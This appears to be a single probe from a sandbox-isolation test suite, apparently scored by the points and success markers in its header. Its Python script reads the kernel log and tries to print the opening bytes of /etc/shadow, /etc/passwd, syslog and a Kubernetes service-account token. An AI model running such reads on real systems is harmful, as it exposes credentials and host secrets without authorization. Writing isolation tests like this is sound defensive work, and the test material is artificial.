# ATTACK: r_kernel_logs
# GROUP: read
# GOAL: what the kernel and the system tell: dmesg, sysfs, hostname, users, mounts, other users' files
# SUCCESS: host facts are printed
# CHECK: canary
# EARNED: 10
# BASE: honest
# TELLS: HOST FACT
import ctypes, os, socket
libc = ctypes.CDLL(None, use_errno=True)
text = ctypes.create_string_buffer(4096)
if libc.klogctl(3, text, 4096) > 0:
    print("HOST FACT dmesg", text.value[:80])
for path in ("/etc/passwd", "/etc/shadow", "/etc/hostname", "/proc/cmdline", "/proc/mounts", "/sys/class/dmi/id/product_name",
             "/var/log/syslog", "/run/secrets/kubernetes.io/serviceaccount/token", "/proc/sys/kernel/random/boot_id"):
    try:
        print("HOST FACT", path, open(path).read(80))
    except OSError:
        pass
